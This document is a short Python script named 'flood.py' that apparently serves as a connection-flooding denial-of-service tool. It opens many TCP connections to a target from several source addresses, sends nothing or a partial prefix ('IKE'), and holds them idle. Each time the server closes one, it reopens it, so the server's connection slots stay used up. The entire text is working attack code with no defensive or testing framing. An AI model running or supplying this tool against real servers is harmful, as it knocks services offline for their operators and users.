"""Opens connections from many addresses and says nothing, or half a prefix, on them; again and again as they are closed.

    flood.py TARGET PORT CONNECTIONS SOURCE...      prints a line once half of them are there
"""
import selectors
import socket
import sys

target, port, most, sources = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4:]
selector = selectors.DefaultSelector()
opened = 0


def begin(number):
    stream = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET)
    stream.setblocking(False)
    stream.bind((sources[number % len(sources)], 0))
    stream.connect_ex((target, port))
    selector.register(stream, selectors.EVENT_READ | selectors.EVENT_WRITE, number)


for number in range(most):
    begin(number)
while True:
    for key, events in selector.select():
        stream, number = key.fileobj, key.data
        try:
            if events & selectors.EVENT_WRITE:
                if number % 2:
                    stream.send(b"IKE")
                selector.modify(stream, selectors.EVENT_READ, number)
                opened += 1
            elif not stream.recv(100):
                raise ConnectionError
        except OSError:
            selector.unregister(stream)
            stream.close()
            begin(number)
        if opened >= most // 2:
            print(f"{opened} were opened", flush=True)
            opened = -1 << 60
